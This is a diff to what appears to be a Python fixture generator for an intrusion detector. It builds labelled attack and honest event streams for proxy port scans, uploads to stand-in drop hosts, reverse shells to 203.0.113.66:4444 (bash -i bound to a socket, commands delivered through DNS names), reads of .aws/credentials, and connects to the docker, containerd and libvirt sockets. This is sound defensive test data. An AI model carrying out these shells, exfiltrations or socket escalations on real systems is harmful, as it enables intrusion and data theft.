@@ -105,6 +105,14 @@ def scanning():
     for i in range(50):
         s.connect(300, "203.0.113.7", 3128).traffic(20, i + 1, 60 + i % 3, 110, "203.0.113.7", 3128, kind="closed")
     s.save()
+    s = Stream("port_scanning.attack-refused-by-a-proxy")  # by SOCKS, in an hour: a word to it, and its refusal
+    for i in range(24):
+        s.connect(150000, "203.0.113.7", 1080).traffic(20, i + 1, 13, 12, "203.0.113.7", 1080, kind="closed")
+    s.save()
+    s = Stream("port_scanning.honest-small-requests-through-a-proxy")  # a page's state, asked for now and then
+    for i in range(60):
+        s.connect(9000, "203.0.113.7", 3128).traffic(90, i + 1, 124, 180, "203.0.113.7", 3128, kind="closed")
+    s.save()
     s = Stream("port_scanning.honest-proxy")  # every request a connection of its own
     for i in range(90):
         s.run(50, "/usr/bin/curl", "curl", "-s", "-x", "http://203.0.113.7:3128", "https://pypi.org/simple/p%d/" % i, pid=300 + i)
@@ -217,6 +225,21 @@ def exfiltration():
     for i in range(1, 21):
         s.traffic(100, 1, i << 20, 4000, "203.0.113.50", 443, name="results.example.org")
     s.save()
+    def taken(name, *peers, protocol=6, port=9000, back=1, rule="public address", size=90 << 10):
+        s = Stream("data_exfiltration." + name)
+        for i, host in enumerate(peers, 1):
+            s.connect(50, "203.0.113.%d" % (60 + i), port, host, text=rule, protocol=protocol).traffic(900, i, size // 2, 0, "203.0.113.%d" % (60 + i), port, name=host)
+            s.traffic(900, i, size, back, "203.0.113.%d" % (60 + i), port, name=host, kind="closed")
+        s.save()
+
+    taken("attack-taken-in-silence", "drop.example", size=700 << 10)
+    taken("attack-taken-by-two", "a.example", "b.example")
+    taken("attack-taken-by-datagrams", "drop.example", protocol=17, back=0, size=200000)
+    taken("attack-taken-below-a-wildcard", "x.drop.example", size=200000, rule="allow *.example")
+    taken("honest-taken-and-named", "backup.example", size=9 << 20, rule="allow backup.example:9000")
+    taken("honest-logs", "log.example", port=6514, size=9 << 20, back=0)
+    taken("honest-answered", "files.example", size=9 << 20, back=40)
+    taken("honest-short-silence", "a.example", size=100 << 10)
     s = Stream("data_exfiltration.honest-local").connect(50, "127.0.0.1", 5432, flags="inside")
     s.traffic(900, 1, 90 << 20, 400, "127.0.0.1", 5432, flags="inside").save()
     s = Stream("data_exfiltration.honest-names")
@@ -256,8 +279,8 @@ SOCKET = dict(stdin="inet", stdin_id=90, stdout="inet", stdout_id=90, stderr="in
 
 
 def shells():
-    def there(name):
-        return Stream("reverse_shells." + name).connect(30, "203.0.113.66", 4444)
+    def there(name, host=None):
+        return Stream("reverse_shells." + name).connect(30, "203.0.113.66", 4444, host)
     there("attack-dev-tcp").run(2, "/bin/bash", "bash", "-i", **SOCKET).save()
     there("attack-dup2").run(2, "/bin/sh", "/bin/sh", **SOCKET).save()
     there("attack-renamed").run(2, "/tmp/kworker", "kworker", **SOCKET, flags="writable_place").save()
@@ -279,8 +302,21 @@ def shells():
         s.traffic(900, 1, 100 * i, (i + 1) + sum(len(c) for c in ("id", "uname -a", "ls -la /")[:i + 1]), "203.0.113.66", 4444)
         s.run(2, "/bin/sh", "sh", "-c", command, pid=300 + i, stdout_id=40 + i)
     s.save()
-    def channel(name, commands, frame, template="%s", **feed):
-        s, came = there(name).traffic(100, 1, 60, 200, "203.0.113.66", 4444), 200
+    def orders(name, texts, *words):
+        s = Stream("reverse_shells." + name)
+        for i, text in enumerate(texts):
+            s.add(900, kind="name", name="c%d.cmd.example" % i, arg0=16, argv=text)
+            s.run(30, *words[i], pid=300 + i)
+        s.save()
+
+    orders("attack-order-by-name", ["ls -la /"], ("/bin/sh", "sh", "-c", "ls -la / 2>&1"))
+    orders("attack-orders-of-a-word", ["id", "whoami"], ("/bin/bash", "bash", "-lc", "id "), ("/usr/bin/whoami", "whoami"))
+    orders("attack-order-evaluated", ["uname -a; id | head -1"], ("/usr/bin/uname", "uname", "-a"))
+    orders("honest-text-of-a-domain", ["v=spf1 include:_spf.example -all", "true", "dig is what shows this"],
+           ("/bin/sh", "sh", "-c", "dig +short TXT example | grep 'v=spf1 include:_spf.example -all'"), ("/bin/sh", "sh", "-c", "true"), ("/usr/bin/dig", "dig"))
+
+    def channel(name, commands, frame, template="%s", name_of=None, **feed):
+        s, came = there(name, name_of).traffic(100, 1, 60, 200, "203.0.113.66", 4444), 200
         for i, command in enumerate(commands):
             came += frame + len(command)
             s.traffic(900, 1, 100 * i + 60, came, "203.0.113.66", 4444)
@@ -289,6 +325,10 @@ def shells():
             s.run(1, "/bin/sh", "sh", "-c", template % command, pid=300 + i, stdout_id=40 + i)
         s.save()
     channel("attack-channel", ("id", "uname -a", "ls -la /", "df"), 36, flags="as_came")
+    commands = ("id", "uname -a", "ls -la /", "df")
+    channel("attack-channel-of-strings", commands, 25, flags="as_string")
+    channel("honest-channel-of-a-named-peer", commands, 25, name_of="jobs.example", flags="as_string")
+    channel("honest-model-of-strings", commands, 190, flags="as_string")
     channel("honest-worker-of-a-channel", ("id", "uname -a", "ls -la /", "w"), 36, "printf %%s '%s' | sha256sum | head -c 12")
     channel("honest-web-client", ("id", "uname -a", "ls -la /", "w"), 150, flags="as_came")
     s = Stream("reverse_shells.attack-two-telnets").run(4, "/usr/bin/telnet", "telnet", "203.0.113.66", "4444", pid=201, stdout_id=71)
@@ -345,6 +385,16 @@ def hunts():
     s.run(40, "/usr/bin/base64", "base64", "/home/ann/.aws/credentials").save()
     s = Stream("privilege_escalation_attempt.attack-metadata").connect(9, "169.254.169.254", 80, verdict="refused", error=111)
     s.connect(9, "100.100.100.200", 80, verdict="refused", error=111).save()
+    def sockets(name, *paths):
+        s = Stream("privilege_escalation_attempt." + name)
+        for path in paths:
+            s.add(9, kind="call", pid=100, call="connect", text=path)
+        s.save()
+
+    sockets("attack-managers", "/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/crio/crio.sock")
+    sockets("attack-managers-of-machines", "/run/systemd/private", "/var/lib/lxd/unix.socket", "/run/libvirt/libvirt-sock")
+    sockets("honest-client-of-containers", "/var/run/docker.sock", "/run/user/1000/docker.sock", "/run/podman/podman.sock", "/run/user/1000/podman/podman.sock",
+            "/run/dbus/system_bus_socket", "/run/systemd/journal/dev-log", "/var/run/nscd/socket")
     s = Stream("privilege_escalation_attempt.honest-searches")  # of a project's own, for what others read, and what they leave out
     for words in (("find", ".", "-name", "id_rsa", "-o", "-name", ".env*"), ("find", "/", "-name", "*.pem", "-o", "-name", "*.crt"),
                   ("find", "/home", "-not", "-path", "*/.ssh/*", "-name", "*.py"), ("find", "/", "-path", "/root/.ssh", "-prune", "-o", "-name", "x.conf"),
